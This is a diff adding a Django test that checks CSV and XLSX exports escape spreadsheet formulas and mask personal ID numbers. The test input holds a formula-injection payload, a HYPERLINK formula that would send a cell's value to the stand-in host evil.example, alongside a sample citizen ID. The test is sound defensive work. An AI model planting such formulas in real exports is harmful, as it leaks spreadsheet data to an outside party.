@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import datetime as dt
 from io import BytesIO
 from typing import Any
 
@@ -50,3 +51,32 @@ def test_exports_keep_to_the_users_scope(client: Client) -> None:
     agencies = client.get(reverse("documents:export_agencies", args=["csv"]))
     text = b"".join(agencies.streaming_content).decode()  # type: ignore[attr-defined]
     assert "Sở Y tế" in text and "Việt Nam" not in text
+
+
+def test_exports_never_carry_a_live_formula_or_a_full_personal_id(client: Client) -> None:
+    from tiendo.progress.models import Lifecycle
+    from tiendo.progress.services import update_record
+
+    cast = make_cast()
+    narrative = '=HYPERLINK("http://evil.example/?"&A2,"Xem") công dân 040190012345'
+    update_record(
+        item=cast.item,
+        valid_on=dt.date(2024, 3, 10),
+        state=Lifecycle.IN_PROGRESS,
+        narrative=narrative,
+        recorded_at=dt.datetime(2024, 3, 10, 9, tzinfo=dt.UTC),
+    )
+    client.force_login(cast.standing)
+    csv_response = client.get(reverse("documents:export_updates", args=[cast.plan.pk, "csv"]))
+    csv_text = b"".join(csv_response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
+    assert "040190012345" not in csv_text
+    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
+    response = client.get(reverse("documents:export_updates", args=[cast.plan.pk, "xlsx"]))
+    data = b"".join(response.streaming_content)  # type: ignore[attr-defined]
+    sheet = load_workbook(BytesIO(data)).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    hyperlink = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
+    assert hyperlink and all(cell.data_type == "s" for cell in hyperlink), "stored as text"
+    assert not any("040190012345" in str(cell.value) for cell in cells)
+    assert any("040*******45" in str(cell.value) for cell in cells)
